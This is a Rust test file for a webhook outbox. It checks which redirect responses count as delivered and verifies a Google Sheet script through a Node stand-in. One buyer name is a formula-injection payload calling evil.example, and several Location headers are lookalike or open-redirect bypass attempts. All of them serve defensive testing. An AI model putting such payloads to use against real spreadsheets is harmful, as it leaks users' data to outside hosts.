//! Endpoints that answer with a redirect when they have succeeded, and the recipe for a Google Sheet, whose script runs
//! in Node with stand-ins of Google's services.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use crate::http::{Answer, Server, call, serve_with, until};
use crate::webhook_sink::{Sink, SinkReply};
use firstcome::config::{Config, SuccessRedirect};
use serde_json::{Value, json};

fn success_at(endpoint: SocketAddr, location: &str) -> impl FnOnce(&mut Config) + use<> {
    let redirect = SuccessRedirect { endpoint: endpoint.to_string(), location: location.into() };
    move |config| {
        config.outbox.allow_private_networks = vec!["127.0.0.0/8".parse().expect("a network")];
        config.outbox.retry_waits = vec![Duration::ZERO];
        config.outbox.timeout = Duration::from_secs(5);
        config.outbox.success_redirects = vec![redirect];
    }
}

/// Creates an endpoint that gets orders, and returns its path.
fn endpoint(server: &Server, key: &str, url: &str) -> String {
    let body = json!({ "url": url, "events": ["order.reserved"] }).to_string();
    let headers = format!("Content-Type: application/json\r\nIdempotency-Key: {key}\r\n");
    let made = call(server.0.server.admin_address, "POST", "/v1/webhook-endpoints", &headers, &body);
    assert_eq!(made.status, 201, "{}", made.text);
    format!("/v1/webhook-endpoints/{}", made.body["id"])
}

fn get(server: &Server, path: &str) -> Answer {
    call(server.0.server.admin_address, "GET", path, "", "")
}

fn dead_letters(server: &Server, endpoint: &str) -> Vec<Value> {
    get(server, &format!("{endpoint}/deliveries?state=dead")).body["data"].as_array().expect("a list").clone()
}

fn buy(server: &Server, buyer: &str) {
    let order = server.order(buyer, &json!({ "buyer": buyer, "quantity": 1 }).to_string());
    assert_eq!(order.status, 201, "{}", order.text);
}

#[test]
fn where_a_redirect_is_success_only_the_redirect_to_the_named_host_delivers() {
    let scratch = tempfile::tempdir().expect("scratch");
    let sheet = Sink::new(|_| SinkReply::With(302, "Location: https://Echo.example/macros/echo?key=1"));
    let server = serve_with(scratch.path(), success_at(sheet.address, "echo.example"));
    server.create(20);
    let path = endpoint(&server, "sheet", &sheet.url());
    buy(&server, "ann");
    until("the event has come", || sheet.received().len() == 1);
    // What does not say that the script has run is tried again, and ends as a dead letter.
    let failures = [
        (SinkReply::With(302, "Location: https://login.example/"), "status 302"),
        (SinkReply::With(302, "Location: /macros/echo"), "status 302"),
        (SinkReply::With(302, "Location: https://login.example/?to=https://echo.example/"), "status 302"),
        (SinkReply::With(302, "Location: https://echo.example.evil.example/"), "status 302"),
        (SinkReply::Status(302), "status 302"),
        (SinkReply::Status(200), "status 200"),
    ];
    for (number, (reply, trouble)) in failures.into_iter().enumerate() {
        sheet.reply_with(move |_| reply);
        buy(&server, &format!("b{number}"));
        until("it is given up", || dead_letters(&server, &path).len() == number + 1);
        let letters = dead_letters(&server, &path);
        assert_eq!((&letters[number]["trouble"], &letters[number]["attempts"]), (&json!(trouble), &json!(2)));
        // The breaker counts failures in a row.
        sheet.reply_with(|_| SinkReply::With(302, "Location: https://echo.example/"));
        let seen = sheet.received().len();
        buy(&server, &format!("well{number}"));
        until("it is delivered", || sheet.received().len() > seen);
    }
    server.stop();
}

#[test]
fn at_other_endpoints_a_redirect_is_a_failure_as_before() {
    let scratch = tempfile::tempdir().expect("scratch");
    let sheet = Sink::new(|_| SinkReply::With(302, "Location: https://echo.example/"));
    let shop = Sink::new(|_| SinkReply::With(302, "Location: https://echo.example/"));
    let server = serve_with(scratch.path(), success_at(sheet.address, "echo.example"));
    server.create(20);
    let (of_sheet, of_shop) = (endpoint(&server, "sheet", &sheet.url()), endpoint(&server, "shop", &shop.url()));
    buy(&server, "ann");
    until("it is given up", || dead_letters(&server, &of_shop).len() == 1);
    until("the sheet has it", || sheet.received().len() == 1);
    assert_eq!(dead_letters(&server, &of_shop)[0]["trouble"], "status 302");
    assert!(dead_letters(&server, &of_sheet).is_empty());
    server.stop();
}

/// The stand-in of Google; it ends with the test.
struct StandIn {
    process: Child,
    address: SocketAddr,
}

impl StandIn {
    fn start(token: &str) -> StandIn {
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/examples/google-sheet-stand-in.mjs");
        let mut process =
            Command::new("node").args([script, token]).stdout(Stdio::piped()).spawn().expect("node is installed");
        let mut line = String::new();
        BufReader::new(process.stdout.take().expect("piped")).read_line(&mut line).expect("its port");
        let port: u16 = line.trim().parse().expect("a port");
        StandIn { process, address: SocketAddr::from(([127, 0, 0, 1], port)) }
    }

    fn rows(&self) -> Vec<Value> {
        let mut stream = TcpStream::connect(self.address).expect("connected");
        write!(stream, "GET /rows HTTP/1.0\r\n\r\n").expect("sent");
        let mut answer = String::new();
        stream.read_to_string(&mut answer).expect("answered");
        let (_, body) = answer.split_once("\r\n\r\n").expect("a body");
        serde_json::from_str(body).expect("rows")
    }
}

impl Drop for StandIn {
    fn drop(&mut self) {
        let _ended = self.process.kill();
        let _reaped = self.process.wait();
    }
}

#[test]
fn the_script_of_the_sheet_writes_each_event_once_and_no_formula_of_a_buyer() {
    let scratch = tempfile::tempdir().expect("scratch");
    let google = StandIn::start("t0ken");
    let server = serve_with(scratch.path(), success_at(google.address, "script.googleusercontent.invalid"));
    server.create(20);
    let sheet = endpoint(&server, "sheet", &format!("http://{}/exec?token=t0ken", google.address));
    buy(&server, "=IMPORTXML(\"https://evil.example\")");
    buy(&server, "bob");
    until("both orders are in the sheet", || google.rows().len() == 3);
    let rows = google.rows();
    assert_eq!((&rows[0][0], &rows[0][5]), (&json!("seq"), &json!("buyer")));
    assert_eq!((&rows[1][2], &rows[1][7], &rows[1][8]), (&json!("order.reserved"), &json!("S"), &json!(1)));
    assert_eq!(rows[1][5], "=IMPORTXML(\"https://evil.example\")", "a text, as the apostrophe before it says");
    // All events are sent once more: the sheet has them.
    let again = json!({ "from_seq": 1, "all": true, "reason": "a drill" }).to_string();
    let delivered = || server.metric("firstcome_outbox_deliveries_total{result=\"delivered\"}");
    let before = delivered();
    let headers = "Content-Type: application/json\r\n";
    assert_eq!(call(server.0.server.admin_address, "POST", &format!("{sheet}/resend"), headers, &again).status, 200);
    until("they are sent again", || delivered() >= before + 2.0);
    assert_eq!(google.rows(), rows);
    // Without the token the script throws, and Google answers 200; a deployment behind a login redirects elsewhere.
    let others = ["/exec?token=guessed", "/login"]
        .map(|path| endpoint(&server, path, &format!("http://{}{path}", google.address)));
    buy(&server, "cyd");
    for (path, trouble) in others.iter().zip(["status 200", "status 302"]) {
        until("it is given up", || dead_letters(&server, path).len() == 1);
        assert_eq!(dead_letters(&server, path)[0]["trouble"], trouble);
    }
    until("the order is in the sheet", || google.rows().len() == 4);
    assert_eq!(google.rows()[3][5], "cyd");
    server.stop();
}
